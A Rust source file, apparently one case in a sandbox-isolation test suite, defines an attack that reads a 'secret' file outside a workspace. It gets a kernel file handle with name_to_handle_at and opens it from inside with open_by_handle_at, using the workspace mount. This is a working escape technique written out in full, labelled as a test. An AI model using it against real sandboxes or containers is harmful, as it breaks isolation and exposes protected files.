//! Opens a file outside by its handle, with the workspace as proof that it may see that filesystem.

use std::ffi::CString;
use std::fs::File;
use std::io::{self, Read};
use std::os::fd::{AsRawFd, FromRawFd};
use std::os::unix::ffi::OsStrExt;

use model::Wall;

use crate::inside::call;
use crate::{Attack, Control};

pub const ATTACK: Attack = Attack {
    id: "kernel/handle_of_secret",
    wall: Wall::Files,
    about: "open the secret by its file handle through the workspace's filesystem",
    flags: &[],
    prepare: |field| {
        let path = CString::new(field.outside.join("secret").as_os_str().as_bytes())?;
        // struct file_handle: room, kind, then up to 128 bytes.
        let mut handle = [0u32; 34];
        handle[0] = 128;
        let mut mount = 0i32;
        call(
            libc::SYS_name_to_handle_at,
            [libc::AT_FDCWD as u64, path.as_ptr() as u64, handle.as_mut_ptr() as u64, &raw mut mount as u64, 0, 0],
        )?;
        field.tell("handle", handle.map(|word| word.to_string()).join(" "));
        Ok(())
    },
    inside: |inside| {
        let words: Result<Vec<u32>, _> = inside.hint("handle")?.split(' ').map(str::parse).collect();
        let words = words.map_err(io::Error::other)?;
        let mount = File::open(&inside.workspace)?;
        let arguments = [mount.as_raw_fd() as u64, words.as_ptr() as u64, 0, 0, 0, 0];
        let opened = call(libc::SYS_open_by_handle_at, arguments)?;
        let mut text = Vec::new();
        // SAFETY: the kernel made it for this call.
        unsafe { File::from_raw_fd(opened as i32) }.read_to_end(&mut text)?;
        inside.loot(text)
    },
    judge: None,
    control: Control::BareAsRoot,
};
